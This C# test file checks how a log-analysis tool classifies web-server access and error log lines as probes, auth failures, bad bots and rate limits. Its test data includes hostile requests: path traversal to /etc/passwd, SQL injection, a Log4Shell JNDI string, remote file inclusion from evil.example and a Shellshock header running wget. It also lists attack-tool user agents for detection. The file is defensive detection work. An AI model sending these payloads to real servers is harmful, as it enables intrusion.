using LogWarden.Detect.Security;
using static LogWarden.Tests.Detect.Security.SecurityLines;

namespace LogWarden.Tests.Detect.Security;

/// <summary>Web servers' access and error logs: nginx/Apache combined, haproxy, squid, Traefik/Caddy/nginx JSON, error-log "not found".</summary>
public sealed class WebEventTests
{
    private static string Access(string client, string request, int status, string agent = "Mozilla/5.0 (X11; Linux x86_64)") =>
        string.Create(System.Globalization.CultureInfo.InvariantCulture, $"{client} - - [12/Jan/2024:10:00:01 +0000] \"{request}\" {status} 153 \"-\" \"{agent}\"");

    [Theory]
    [InlineData("Nov 20 10:15:03 web1 gunicorn[33]: ")]
    [InlineData("[httpd] ")]
    [InlineData("web_1  | ")]
    [InlineData("shop.example.com ")]
    public void An_access_line_after_a_prefix_is_read_with_its_client(string prefix)
    {
        var e = Recognize(prefix + Access("203.0.113.61", "GET /.env HTTP/1.1", 404));

        Assert.NotNull(e);
        Assert.Equal(SecurityEventKinds.WebProbe, e.Kind);
        Assert.Equal("203.0.113.61", e.Ip);
    }

    [Fact]
    public void A_virtual_host_without_its_port_before_the_client_is_decoded_as_the_virtual_host()
    {
        var record = Decode("shop.example.com " + Access("203.0.113.61", "GET /cart HTTP/1.1", 502));

        Assert.True(LogWarden.Parse.AccessLogDecoder.IsAccessRecord(record));
        Assert.Equal("shop.example.com", record.Host);
        Assert.True(LogWarden.Parse.AccessLogDecoder.TryReadParts(record, out var parts));
        Assert.Equal("203.0.113.61", parts.Client.ToString());
        Assert.Equal(502, parts.Status);
    }

    [Theory]
    [InlineData("GET /wp-login.php HTTP/1.1", 404, SecurityEventKinds.WebProbe)]
    [InlineData("GET //phpMyAdmin-2.8.2.3/scripts/setup.php HTTP/1.1", 404, SecurityEventKinds.WebProbe)]
    [InlineData("POST /cgi-bin/luci/;stok=/locale HTTP/1.1", 404, SecurityEventKinds.WebProbe)]
    [InlineData("GET /.env HTTP/1.1", 404, SecurityEventKinds.WebProbe)]
    [InlineData("GET /.git/config HTTP/1.1", 200, SecurityEventKinds.WebProbe)]
    [InlineData("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, SecurityEventKinds.WebProbe)]
    [InlineData("GET /index.php?page=../../../../etc/passwd HTTP/1.1", 200, SecurityEventKinds.WebProbe)]
    [InlineData("GET /?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1", 200, SecurityEventKinds.WebProbe)]
    [InlineData("GET /${jndi:ldap://x.example/a} HTTP/1.1", 400, SecurityEventKinds.WebProbe)]
    [InlineData("GET /index.php?n=http://evil.example/shell.txt? HTTP/1.1", 200, SecurityEventKinds.WebProbe)]
    [InlineData("GET /admin/ HTTP/1.1", 401, SecurityEventKinds.WebAuthFailure)]
    [InlineData("GET /private/ HTTP/1.1", 403, SecurityEventKinds.WebForbidden)]
    [InlineData("POST /api/login HTTP/1.1", 429, SecurityEventKinds.RateLimited)]
    [InlineData("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03", 400, SecurityEventKinds.BadRequest)]
    [InlineData("", 400, SecurityEventKinds.BadRequest)]
    [InlineData("HELP", 400, SecurityEventKinds.BadRequest)]
    [InlineData("CONNECT 203.0.113.50:443 HTTP/1.1", 400, SecurityEventKinds.BadRequest)]
    [InlineData("GET /favicon.ico HTTP/1.1", 404, SecurityEventKinds.WebNotFound)]
    public void Access_log_requests_are_classified_by_target_status_and_shape(string request, int status, string kind) =>
        AssertEvent(Access("192.0.2.61", request, status), kind, hostile: kind != SecurityEventKinds.WebNotFound, "192.0.2.61");

    [Theory]
    [InlineData("GET / HTTP/1.1", 200)]
    [InlineData("GET /blog/2024/01/hello-world HTTP/2.0", 200)]
    [InlineData("POST /api/v1/orders HTTP/1.1", 400)]
    [InlineData("GET /static/app.3f9a.js HTTP/1.1", 304)]
    [InlineData("GET /search?q=select+a+course+from+the+list HTTP/1.1", 200)]
    public void Ordinary_requests_are_no_event(string request, int status) =>
        Assert.Null(Recognize(Access("192.0.2.62", request, status)));

    [Theory]
    [InlineData("sqlmap/1.7.2#stable (https://sqlmap.org)")]
    [InlineData("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)")]
    [InlineData("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")]
    [InlineData("TrackBack/1.02")]
    public void Attack_tools_and_harvesters_are_bad_bots(string agent)
    {
        var e = Recognize(Access("192.0.2.63", "GET / HTTP/1.1", 200, agent));
        Assert.Equal(SecurityEventKinds.BadBot, e?.Kind);
    }

    [Fact]
    public void Shellshock_in_a_header_is_a_probe_whatever_the_status() =>
        Assert.Equal(SecurityEventKinds.WebProbe, Recognize(Access("192.0.2.64", "GET /cgi-bin/status HTTP/1.1", 200, "() { :; }; /bin/bash -c 'wget http://x/y'"))?.Kind);

    [Theory]
    // Traefik JSON access log
    [InlineData("{\"ClientAddr\":\"192.0.2.72:5566\",\"ClientHost\":\"192.0.2.72\",\"DownstreamStatus\":401,\"RequestMethod\":\"GET\",\"RequestPath\":\"/dashboard/\",\"RequestProtocol\":\"HTTP/2.0\",\"level\":\"info\",\"msg\":\"\",\"time\":\"2024-01-12T10:00:01Z\"}", SecurityEventKinds.WebAuthFailure, "192.0.2.72")]
    // Caddy JSON access log (nested request object)
    [InlineData("{\"level\":\"info\",\"ts\":1705053601.5,\"logger\":\"http.log.access\",\"msg\":\"handled request\",\"request\":{\"remote_ip\":\"192.0.2.73\",\"remote_port\":\"41342\",\"proto\":\"HTTP/1.1\",\"method\":\"GET\",\"host\":\"example.com\",\"uri\":\"/.git/config\",\"headers\":{\"User-Agent\":[\"curl/8.0\"]}},\"status\":404}", SecurityEventKinds.WebProbe, "192.0.2.73")]
    // nginx log_format escape=json
    [InlineData("{\"time\":\"2024-01-12T10:00:01+00:00\",\"remote_addr\":\"192.0.2.74\",\"request\":\"POST /xmlrpc.php HTTP/1.1\",\"status\":\"403\",\"body_bytes_sent\":\"153\",\"http_user_agent\":\"Mozilla/5.0\"}", SecurityEventKinds.WebProbe, "192.0.2.74")]
    // ECS (Elastic Common Schema)
    [InlineData("{\"@timestamp\":\"2024-01-12T10:00:01Z\",\"source\":{\"ip\":\"192.0.2.75\"},\"destination\":{\"ip\":\"10.0.0.9\"},\"http\":{\"request\":{\"method\":\"GET\"},\"response\":{\"status_code\":401}},\"url\":{\"original\":\"/admin\"}}", SecurityEventKinds.WebAuthFailure, "192.0.2.75")]
    // haproxy HTTP log in syslog
    [InlineData("Jan 12 10:00:01 lb haproxy[6001]: 192.0.2.76:41000 [12/Jan/2024:10:00:01.123] fe be/srv1 0/0/1/2/3 401 212 - - ---- 1/1/0/0/0 0/0 \"GET /admin HTTP/1.1\"", SecurityEventKinds.WebAuthFailure, "192.0.2.76")]
    // squid native access log
    [InlineData("1705053601.000      4 192.0.2.77 TCP_DENIED/403 4099 GET http://www.example.net/azenv.php - HIER_NONE/- text/html", SecurityEventKinds.WebProbe, "192.0.2.77")]
    // CLF with a month name the access decoder does not know
    [InlineData("192.0.2.78 -  -  [02/sept./2024:00:11:31 +0200] \"GET /rest/bindings HTTP/1.1\" 401 1384", SecurityEventKinds.WebAuthFailure, "192.0.2.78")]
    public void Json_and_other_access_log_formats_are_read_too(string line, string kind, string client) =>
        AssertEvent(line, kind, hostile: true, client);

    [Theory]
    [InlineData("[Mon Dec 23 09:49:10 2013] [error] [client 192.0.2.80] File does not exist: /var/www/phpmyadmin", SecurityEventKinds.WebProbe, true)]
    [InlineData("[Fri Jan 12 10:00:01.1 2024] [core:info] [pid 4101] [client 192.0.2.80:46652] AH00128: File does not exist: /srv/http/site/wp-login.php", SecurityEventKinds.WebProbe, true)]
    [InlineData("[Fri Jan 12 10:00:01.1 2024] [cgi:error] [pid 27550] [client 192.0.2.80:18071] AH02811: script not found or unable to stat: /usr/lib/cgi-bin/kerbynet", SecurityEventKinds.WebProbe, true)]
    [InlineData("2024/01/12 10:00:01 [error] 2833#0: *16336 open() \"/var/www/site/cgi-bin/php4\" failed (2: No such file or directory), client: 192.0.2.80, server: localhost, request: \"GET /cgi-bin/php4 HTTP/1.1\", host: \"example.com\"", SecurityEventKinds.WebProbe, true)]
    [InlineData("[Fri Jan 12 10:00:01 2024] [error] [client 192.0.2.80] File does not exist: /var/www/html/favicon.ico", SecurityEventKinds.WebNotFound, false)]
    [InlineData("[Fri Jan 12 10:00:01 2024] [error] [client 192.0.2.80] Invalid URI in request GET /static/../../../a/../../../../etc/passwd HTTP/1.1", SecurityEventKinds.BadRequest, true)]
    [InlineData("2024/01/12 10:00:01 [error] 256554#0: *99927 limiting requests, excess: 1.852 by zone \"one\", client: 192.0.2.80, server: example.com, request: \"POST /login HTTP/1.1\", host: \"example.com\"", SecurityEventKinds.RateLimited, true)]
    public void Web_server_error_logs_name_probes_and_refusals(string line, string kind, bool hostile) =>
        AssertEvent(line, kind, hostile, "192.0.2.80");
}
